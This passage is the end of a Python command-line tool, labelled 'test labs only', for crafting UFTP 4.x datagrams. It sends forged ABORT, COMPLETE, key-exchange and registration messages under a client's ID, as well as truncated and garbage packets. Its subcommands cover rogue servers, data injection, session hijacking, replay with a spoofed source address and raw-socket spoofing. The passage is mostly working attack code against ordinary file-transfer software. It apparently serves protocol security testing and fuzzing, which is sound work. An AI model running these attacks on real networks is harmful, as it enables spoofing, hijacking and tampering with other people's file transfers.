            tx("abort", a.stranger, abort_body("stranger abort", host=cid))
        if a.id_abort:  # the client's own ID, from the attacker's address
            tx("id_abort", cid, abort_body("spoofed client abort"))
        if a.id_complete:  # COMPLETE for every file and the session, as the client
            for fid in range(0, 6):
                tx("id_complete", cid, complete_body(fid))
                tx("id_complete", cid, fileinfo_ack_body(fid))
        # forged KEYINFO_ACK (plaintext, and ENCRYPTED garbage) and CLIENT_KEY under the client's ID
        tx("keyinfo_ack", cid, keyinfo_ack_body(os.urandom(12)))
        tx("keyinfo_ack", cid, None, header(ENCRYPTED, 0, cid, g) + encrypted_body(
            keyinfo_ack_body(os.urandom(12)) + os.urandom(16), counter=rnd + 1, sig=os.urandom(a.siglen)))
        tx("client_key", cid, client_key_body(os.urandom(a.keylen), os.urandom(a.siglen)))
        tx("client_key", a.stranger, client_key_body(os.urandom(a.keylen), os.urandom(a.siglen)))
        tx("client_key", a.stranger, client_key_body(b"", b""))
        tx("register", a.stranger, register_body(keyinfo=os.urandom(a.keylen)))
        tx("register", cid, register_body(keyinfo=os.urandom(a.keylen)))
        # truncations and garbage
        for m in (register_body(), status_body(1, 0, b"\xff" * 8), complete_body(1), fileinfo_ack_body(1),
                  keyinfo_ack_body(b"x" * 12), client_key_body(b"k" * 40, b"s" * 40), abort_body("t", host=cid)):
            d = header(m[0], 0, cid, g) + m
            for n in range(len(d)):
                tx("trunc", cid, None, d[:n])
        for _ in range(50):
            tx("garbage", cid, None, header(random.randrange(256), 0, cid, g) + os.urandom(random.randrange(200)))
        rnd += 1
        time.sleep(0.2)
    print("ATSERVER sent %s to %s:%d" % (" ".join("%s=%d" % kv for kv in sorted(cnt.items())), host, port), flush=True)
    return 0


def hexint(s):
    return int(s, 0)


def main():
    ap = argparse.ArgumentParser(description="UFTP 4.x datagram crafter (test labs only)")
    sub = ap.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("rogue")
    r.add_argument("--src", required=True, help="our address (also the multicast interface)")
    r.add_argument("--target-id", type=hexint, required=True)
    r.add_argument("--my-id", type=hexint)
    r.add_argument("--pub", default="230.4.4.1")
    r.add_argument("--priv", default="230.5.5.201")
    r.add_argument("--port", type=int, default=1044)
    r.add_argument("--name", action="append", default=[])
    r.add_argument("--data", default="pwned by uftp_craft\\n")
    r.add_argument("--fuzz", type=int, default=0)
    r.add_argument("--seed", type=int, default=1)
    r.add_argument("--announces", type=int, default=10)
    sn = sub.add_parser("sniff")
    sn.add_argument("--pub", default="230.4.4.1")
    sn.add_argument("--port", type=int, default=1044)
    sn.add_argument("--src")
    sn.add_argument("--timeout", type=float, default=10)
    j = sub.add_parser("junk")
    j.add_argument("--to", required=True)
    j.add_argument("--src")
    j.add_argument("--group", type=hexint, default=0x12345678)
    j.add_argument("--src-id", type=hexint, default=0xC6120063)
    j.add_argument("--client-id", type=hexint, default=0xC612000B)
    j.add_argument("--count", type=int, default=200)
    j.add_argument("--seed", type=int, default=1)
    b = sub.add_parser("abort")
    b.add_argument("--to", required=True)
    b.add_argument("--src")
    b.add_argument("--group", type=hexint, required=True)
    b.add_argument("--src-id", type=hexint, required=True)
    b.add_argument("--host", type=hexint, default=0)
    b.add_argument("--count", type=int, default=3)
    b.add_argument("--msg", default="abort from a stranger")
    i = sub.add_parser("inject")
    i.add_argument("--to", required=True)
    i.add_argument("--src")
    i.add_argument("--group", type=hexint, required=True)
    i.add_argument("--src-id", type=hexint, required=True)
    i.add_argument("--file-id", type=int, default=1)
    i.add_argument("--blocks", type=int, default=64)
    i.add_argument("--rounds", type=int, default=5)
    w = sub.add_parser("wire")
    w.add_argument("--to", required=True)
    w.add_argument("--src")
    w.add_argument("--spoof", help="IP:PORT to send from (raw socket, IPv4)")
    w.add_argument("--safe", action="store_true", help="only what no real server sends (for --spoof)")
    w.add_argument("--group", type=hexint, required=True)
    w.add_argument("--src-id", type=hexint, required=True)
    w.add_argument("--client-id", type=hexint, required=True)
    e = sub.add_parser("edge")
    e.add_argument("--src", required=True)
    e.add_argument("--target-id", type=hexint, required=True)
    e.add_argument("--my-id", type=hexint)
    e.add_argument("--pub", default="230.4.4.1")
    e.add_argument("--priv", default="230.5.5.202")
    e.add_argument("--port", type=int, default=1044)
    e.add_argument("--announces", type=int, default=6)
    e.add_argument("--seed", type=int, default=2)
    e.add_argument("--bad-blocksize", type=int, action="append", default=[])
    e.add_argument("--huge", type=int, action="append", default=[])
    e.add_argument("--edge-name", default="edge.bin")
    e.add_argument("--edge-file", required=True)
    hj = sub.add_parser("hijack")
    hj.add_argument("--src", required=True)
    hj.add_argument("--group", type=hexint, required=True)
    hj.add_argument("--server-id", type=hexint, required=True)
    hj.add_argument("--my-id", type=hexint, required=True)
    hj.add_argument("--client-id", type=hexint, required=True)
    hj.add_argument("--pub", default="230.4.4.1")
    hj.add_argument("--priv", required=True)
    hj.add_argument("--port", type=int, default=1044)
    hj.add_argument("--duration", type=float, default=3)
    rp = sub.add_parser("replay")
    rp.add_argument("--src", required=True)
    rp.add_argument("--to", required=True)
    rp.add_argument("--server", required=True, help="IP:PORT of the live server (spoofed source)")
    rp.add_argument("--group", type=hexint, required=True)
    rp.add_argument("--priv", required=True)
    rp.add_argument("--port", type=int, default=1044)
    rp.add_argument("--capture", type=float, default=3)
    rp.add_argument("--max", type=int, default=400)
    rp.add_argument("--delay", type=float, default=2)
    rp.add_argument("--rounds", type=int, default=2)
    rp.add_argument("--mode", choices=("both", "verbatim", "altered"), default="both")
    rp.add_argument("--keyinfo-for", type=hexint, help="also forged KEYINFOs for this client ID")
    rp.add_argument("--keyinfo", type=int, default=20)
    at = sub.add_parser("atserver")
    at.add_argument("--to", required=True)
    at.add_argument("--src", required=True)
    at.add_argument("--group", type=hexint, required=True)
    at.add_argument("--client-id", type=hexint, required=True)
    at.add_argument("--stranger", type=hexint, default=0x0BADBAD0)
    at.add_argument("--duration", type=float, default=3)
    at.add_argument("--keylen", type=int, default=140)
    at.add_argument("--id-abort", action="store_true", help="also ABORTs with the client's ID")
    at.add_argument("--only", help="comma list of the kinds to send (as counted in the output)")
    at.add_argument("--id-complete", action="store_true", help="also COMPLETEs and FILEINFO_ACKs with the client's ID")
    at.add_argument("--siglen", type=int, default=128)
    a = ap.parse_args()
    return {"rogue": cmd_rogue, "sniff": cmd_sniff, "junk": cmd_junk, "abort": cmd_abort,
            "inject": cmd_inject, "wire": cmd_wire, "edge": cmd_edge, "hijack": cmd_hijack,
            "replay": cmd_replay, "atserver": cmd_atserver}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
